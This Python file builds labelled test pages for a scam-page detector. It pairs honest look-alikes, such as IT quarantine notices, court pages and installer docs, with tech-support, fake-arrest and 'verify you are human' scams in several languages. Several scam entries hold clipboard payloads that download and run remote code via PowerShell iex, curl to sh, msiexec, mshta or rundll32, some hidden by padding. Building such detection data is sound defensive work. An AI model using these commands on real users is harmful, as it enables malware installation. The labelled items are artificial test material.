# Part E: harder pages (honest look-alikes that say the scary words themselves; terse and brandless scams).
from gen_a import P
PAD = ' ' * 3000
# ---- honest, hard
P('en_h_nac', 'honest', 'https://quarantine.it.contoso-example.com/', 'it-helpdesk', 'en', 'Network access blocked',
  "Your computer has been blocked from the corporate network.\nOur security scan found malware on this device (Trojan:Win32/Example). Do not turn it off and do not log in to other systems.\nCall the IT Service Desk at 555-0170 (ext. 4) with the ticket number INC5501 to get it cleaned.", None, 'fullscreen')
P('en_h_bench', 'honest', 'https://www.courts.state.example.us/warrants/bench-warrants', 'court-fine', 'en', 'Bench warrants',
  "If you missed a court date, a bench warrant may have been issued for your arrest.\nTo resolve a warrant, contact the Clerk's Office at 555-0171 or come to the courthouse. The court will never ask you to pay by gift card or over the phone to cancel a warrant.")
P('en_h_bankhold', 'honest', 'https://www.bankofamerica.com/security-center/fraud-alerts/', 'bank-cardblock', 'en', 'We placed a hold on your card',
  "We noticed unusual activity and have temporarily locked your debit card.\nIf you did not make a purchase of $1,480.00 at an online store, call us at 1-555-010-0173 right away. If you made it, confirm in the app to unlock your card.")
P('en_h_activate', 'honest', 'https://www.hulu.com/activate', 'iptv-honest', 'en', 'Activate your device',
  "Activate your TV.\nEnter the activation code shown on your TV screen. The code expires in 15 minutes.\nTrouble activating? Call us at 1-555-010-0174 or visit the Help Center.")
P('en_h_amazonhelp', 'honest', 'https://www.amazon.com/gp/help/customer/display.html?nodeId=5501', 'brand-own', 'en', 'Cancel items or orders',
  "You can cancel items or orders that haven't entered the shipping process yet. Go to Your Orders and select Cancel items.\nIf you see a charge you don't recognise, contact us through Customer Service. Amazon will never ask you to call a number in a pop-up.")
P('en_h_mcafee', 'honest', 'https://www.mcafee.com/support/refund', 'av-vendor', 'en', 'Request a refund',
  "If you were charged for an automatic renewal you did not want, you can request a refund within 60 days of the charge.\nSign in to My Account, or call Customer Service at 1-555-010-0175. We will never ask you to install remote access software for a refund.")
P('en_h_prank', 'honest', 'https://fakeupdate-example.net/win10/', 'game', 'en', 'Windows 10 Update Screen Prank',
  "Working on updates 12% complete. Don't turn off your computer.\nPress F11 for full screen. This is a prank page: press Esc to exit. No updates are really running.", None, 'fullscreen')
P('en_h_library', 'honest', 'https://wifi.citylibrary-example.org/blocked', 'mdm-lock', 'en', 'Access blocked',
  "This device has been blocked from the library Wi-Fi for violating the acceptable use policy.\nA fine of $10 applies before access is restored. Please see the front desk or call 555-0176.")
P('en_h_itkb1', 'honest', 'https://support.contoso-example.com/kb/outlook-reset', 'devdocs-copy', 'en', 'Fix: Outlook navigation pane is blank',
  "1. Close Outlook.\n2. Press Windows key + R to open Run.\n3. Paste the command below and press Enter.\noutlook.exe /resetnavpane\nCopy\nStill broken? Call the IT help desk at 555-0177.", "outlook.exe /resetnavpane")
P('en_h_itkb2', 'honest', 'https://it.university-example.edu/kb/map-drive', 'devdocs-copy', 'en', 'Open the department share',
  "To open the shared drive: press Windows + R, press Ctrl + V to paste the path, then press Enter.\n\\\\files.university-example.edu\\dept\\physics\nCopy path", "\\\\files.university-example.edu\\dept\\physics")
P('en_h_uv', 'honest', 'https://docs.astral.sh/uv/getting-started/installation/', 'devdocs-copy', 'en', 'Installation | uv',
  "Standalone installer. On Windows, use irm to download the script and execute it with iex:\npowershell -ExecutionPolicy ByPass -c \"irm https://astral.sh/uv/install.ps1 | iex\"\nCopy", "powershell -ExecutionPolicy ByPass -c \"irm https://astral.sh/uv/install.ps1 | iex\"")
P('en_h_bun', 'honest', 'https://bun.sh/docs/installation', 'devdocs-copy', 'en', 'Installation - Bun',
  "Windows: run in PowerShell\npowershell -c \"irm bun.sh/install.ps1|iex\"\nCopy", "powershell -c \"irm bun.sh/install.ps1|iex\"")
P('en_h_exam2', 'honest', 'https://lockdown.exam-example.org/start', 'exam-fullscreen', 'en', 'Secure exam browser',
  "Your screen is locked for the duration of the exam. You cannot open other windows.\nIf you leave the exam, your attempt will be submitted. Technical problems? Call the proctor line at 555-0178 - do not turn off your computer.", None, 'fullscreen')
P('de_h_haft', 'honest', 'https://www.justiz.nrw.de/BS/gerichtsvollzieher/vermoegensauskunft', 'court-fine', 'de', 'Vermögensauskunft und Haftbefehl',
  "Wer den Termin zur Abgabe der Vermögensauskunft nicht wahrnimmt, gegen den kann das Amtsgericht auf Antrag des Gläubigers einen Haftbefehl erlassen.\nDie Haft wird abgewendet, sobald die Auskunft abgegeben oder die Forderung bezahlt wird. Fragen beantwortet Ihr Gerichtsvollzieher unter 0211 555 0179.")
P('de_h_inkasso', 'honest', 'https://www.inkasso-example.de/zahlung', 'debt-collector', 'de', 'Forderung begleichen',
  "Offene Forderung: 412,00 EUR (Aktenzeichen 5501). Bitte zahlen Sie bis zum 20.12.\nBei Nichtzahlung beantragen wir einen Mahnbescheid beim Amtsgericht. Ratenzahlung möglich: Rufen Sie uns an unter 0211 555 0180.")
P('fr_h_huissier', 'honest', 'https://www.commissaire-justice-example.fr/payer', 'debt-collector', 'fr', 'Régler votre dossier',
  "Vous avez reçu un commandement de payer de 1 240,00 €. Sans règlement sous 8 jours, une saisie sur compte pourra être pratiquée.\nPour un échéancier, appelez l'étude au 01 55 50 01 81.")
P('es_h_exam', 'honest', 'https://examenes.uned.es/sesion/5501', 'exam-fullscreen', 'es', 'Examen en línea',
  "Su pantalla está bloqueada durante el examen. Si sale de la pantalla completa, se registrará.\nProblemas técnicos: llame al 913 555 018. No apague el ordenador.", None, 'fullscreen')
P('ja_h_game', 'honest', 'https://game.example.jp/virus-buster', 'game', 'ja', 'ウイルスバスターズ',
  "警告！ウイルスに感染しました！…というゲームです。迫りくるウイルスを倒してパソコンを守ろう。スペースキーでスタート。ハイスコア 5501", None, 'fullscreen')
P('de_h_avvendor', 'honest', 'https://www.kaspersky.de/renew', 'av-vendor', 'de', 'Lizenz verlängern',
  "Ihre Lizenz läuft in 5 Tagen ab. Ihr Computer ist danach nicht mehr geschützt.\nVerlängern Sie jetzt in Ihrem Konto oder rufen Sie unseren Kundendienst an: 0800 555 0182.")
P('fr_h_applesupport', 'honest', 'https://support.apple.com/fr-fr/102568', 'brand-own', 'fr', "Si votre identifiant Apple est verrouillé",
  "Si votre identifiant Apple est verrouillé ou désactivé pour des raisons de sécurité, vous pouvez le déverrouiller sur iforgot.apple.com.\nVous pouvez aussi contacter l'assistance Apple au 0805 555 018. Apple ne vous demandera jamais de payer pour déverrouiller votre compte.")
P('pl_h_itkb', 'honest', 'https://pomoc.firma-example.pl/kb/drukarka', 'devdocs-copy', 'pl', 'Naprawa kolejki drukarki',
  "1. Naciśnij Windows + R.\n2. Wklej poniższe polecenie (Ctrl + V) i naciśnij Enter.\ncmd /c net stop spooler && net start spooler\nKopiuj\nW razie problemów zadzwoń do helpdesku 22 555 01 83.", "cmd /c net stop spooler && net start spooler")
P('ru_h_debt', 'honest', 'https://fssp.gov.ru/iss/ip', 'court-fine', 'ru', 'Банк данных исполнительных производств',
  "Если у вас есть задолженность по исполнительному производству, оплатите её, чтобы избежать ограничения выезда за границу и ареста имущества.\nВопросы: позвоните в отдел судебных приставов 8 800 555-01-84.")
# ---- scams, hard
P('en_s_terse', 'scam', 'https://0x268d3-err.pages.dev/', 'fakesys-bsod', 'en', 'Error # 0x268d3',
  "Error # 0x268d3\nCall 1-555-010-0180", None, 'fullscreen')
P('en_s_geek', 'scam', 'https://geeksquad-refund-desk.com/', 'callus-av', 'en', 'Refund Department',
  "You are eligible for a refund of $299.99 for your Geek Squad protection plan, which has been discontinued.\nTo receive your refund, call our refund department at +1 (555) 010-0181. Our agent will guide you to process the refund to your bank account.")
P('en_s_gift', 'scam', 'https://ssa-benefits-suspension.com/', 'debt-arrest', 'en', 'Social Security Administration',
  "Your Social Security number has been suspended due to suspicious activity linked to money laundering.\nLegal action and arrest will follow unless you call the officer at 1-555-010-0182 today. Payment can be made with gift cards.")
P('de_s_haft', 'scam', 'https://finanzamt-vollstreckung.de.com/', 'debt-arrest', 'de', 'Letzte Mahnung',
  "LETZTE MAHNUNG: Gegen Sie wurde ein Haftbefehl wegen Steuerschulden in Höhe von 3.870 EUR erlassen.\nUm den Haftbefehl aufzuheben, rufen Sie sofort die Vollstreckungsstelle an: 0800 555 0183. Die Polizei wird sonst innerhalb von 24 Stunden vorbeikommen.")
P('es_s_arrest', 'scam', 'https://hacienda-aviso-final.com/', 'debt-arrest', 'es', 'Aviso final',
  "AVISO FINAL: Se ha emitido una orden de arresto en su contra por una deuda tributaria de 2.140 €.\nPara cancelar la orden llame hoy al departamento jurídico: 900 555 018.")
P('fr_s_arrest', 'scam', 'https://dgfip-recouvrement-urgent.com/', 'debt-arrest', 'fr', 'Dernier avis',
  "DERNIER AVIS : un mandat d'arrêt a été émis contre vous pour une dette fiscale de 2 780 €.\nPour annuler le mandat, appelez aujourd'hui le service juridique au 09 55 50 01 84.")
P('de_s_iptv', 'scam', 'https://tv-aktivierung-hilfe.de.com/', 'callus-iptv', 'de', 'Aktivierung fehlgeschlagen',
  "Ihr Streaming-Abo konnte auf diesem Gerät nicht aktiviert werden (Fehler 551).\nRufen Sie unsere Aktivierungshotline an: 0800 555 0185. Ein Techniker schaltet Ihr Gerät in 5 Minuten frei.")
P('fr_s_carrier', 'scam', 'https://orange-ligne-suspendue.fr.to/', 'callus-carrier', 'fr', 'Votre ligne va être suspendue',
  "Une demande de transfert de votre numéro (SIM swap) a été enregistrée.\nSi vous n'êtes pas à l'origine de cette demande, appelez immédiatement notre service sécurité au 09 55 50 01 86 pour la bloquer.")
P('de_s_signin', 'scam', 'https://windows-sicherheit-anmeldung.web.app/', 'fakesys-signin', 'de', 'Windows-Sicherheit',
  "Windows-Sicherheit\nMelden Sie sich an, um Ihren PC zu entsperren.\nDer Zugriff auf diesen Computer wurde wegen verdächtiger Aktivitäten blockiert.\nBenutzername / Kennwort\nTechnischer Support: 0800 555 0187")
P('de_s_zw', 'scam', 'https://warnung-0188.pages.dev/', 'evasion-zw', 'de', 'Warnung',
  "Ihr Com\u200cputer ist mit Vi\u200cren infi\u200bziert!\nIhre Pass\u200bwörter sind in Gefahr. Rufen Sie so\u200bfort den Micro\u200dsoft Sup\u200bport an: 0800 555 0188", None, 'fullscreen')
P('fr_s_homog', 'scam', 'https://support-0189.com/', 'evasion-homoglyph', 'fr', 'Mіcrоsоft',
  "Vоtre оrdіnateur est blоqué. Aррelez le suррort Mіcrоsоft au 09 55 50 01 89.", None, 'fullscreen')
P('en_s_cf_cloud', 'scam', 'https://news-today-5501.com/', 'clickfix', 'en', 'news-today-5501.com',
  "news-today-5501.com\nVerify you are human by completing the action below.\nVerification steps\nPress Windows + R\nPress CTRL + V\nPress Enter\nPerformance & security by Cloudflare",
  "cmd /c \"curl -s https://0190.top/a.bat -o %TEMP%\\a.bat && %TEMP%\\a.bat\"  REM  Cloudflare verification ID 5501")
P('en_s_cf_pad', 'scam', 'https://check-0191.site/', 'clickfix', 'en', 'Human check',
  "Press Win+R, paste (Ctrl+V) and press Enter to confirm you are not a robot.",
  "conhost --headless powershell -w h -c \"iex(irm 0191.top/c)\"" + PAD + "# ✅ I am not a robot: reCAPTCHA ID 5501")
P('en_s_cf_msi', 'scam', 'https://zoom-join-0192.com/', 'clickfix', 'en', 'Zoom - microphone error',
  "Your microphone could not be started.\nFix it: press Win+R, paste the fix with Ctrl+V and press Enter.\nFix",
  "msiexec /i https://0192-cdn.top/audiofix.msi /qn")
P('en_s_cf_osa', 'scam', 'https://macos-verify-0193.com/', 'clickfix', 'en', 'Verify you are human',
  "macOS: press Cmd + Space, type Terminal, press Return, paste with Cmd + V and press Return.",
  "osascript -e 'do shell script \"curl -s http://0193.top/m | sh\"'")
P('en_s_cf_blank', 'scam', 'https://a0194.top/', 'clickfix-terse', 'en', '',
  "⊞ + R\n⌃ + V\n↵", "rundll32 \\\\0194.top@SSL\\dav\\x.dll,Entry")
P('es_s_filefix', 'scam', 'https://documento-compartido.site/', 'filefix', 'es', 'Documento compartido',
  "Para abrir el documento:\n1. Copie la ruta\n2. Abra el Explorador de archivos\n3. Pegue la ruta en la barra de direcciones y pulse Intro\nC:\\empresa\\rrhh\\Nominas_2026.pdf",
  "powershell -c \"iwr https://0195.top/n|iex\"                                              # C:\\empresa\\rrhh\\Nominas_2026.pdf")
P('ar_s_cf', 'scam', 'https://tahaqquq-0196.com/', 'clickfix', 'ar', 'التحقق',
  "أنا لست روبوتاً\n1. اضغط Windows + R\n2. اضغط Ctrl + V\n3. اضغط Enter", "powershell -w h -c \"iwr https://0196.top/a|iex\"")
P('ko_s_cf', 'scam', 'https://injeung-0197.com/', 'clickfix', 'ko', '보안 확인',
  "로봇이 아닙니다\n1. Windows + R 누르기\n2. Ctrl + V 누르기\n3. Enter 누르기", "mshta https://0197.top/k.hta")
P('it_s_iptv', 'scam', 'https://attivazione-tv-smart.it.com/', 'callus-iptv', 'it', 'Attivazione abbonamento',
  "Il tuo abbonamento streaming non è attivo su questo televisore (errore 551).\nChiama il servizio attivazioni al numero verde 800 555 0198: un tecnico completerà l'attivazione.")
P('en_s_bsod_nobrand', 'scam', 'https://driver-irql-5501.pages.dev/', 'fakesys-bsod', 'en', 'DRIVER_IRQL_NOT_LESS_OR_EQUAL',
  "A problem has been detected and your computer has been shut down to prevent damage.\nDRIVER_IRQL_NOT_LESS_OR_EQUAL\nTechnical information: *** STOP: 0x000000D1\nFor help call 1-555-010-0199", None, 'fullscreen')
P('en_s_activation', 'scam', 'https://product-key-5501.web.app/', 'fakesys-activation', 'en', 'Activate Windows',
  "Your Windows license has expired.\nYour product key is invalid and your PC will stop working in 24 hours.\nCall the activation center at +1 555-010-0100 to get a new key.", None, 'fullscreen')
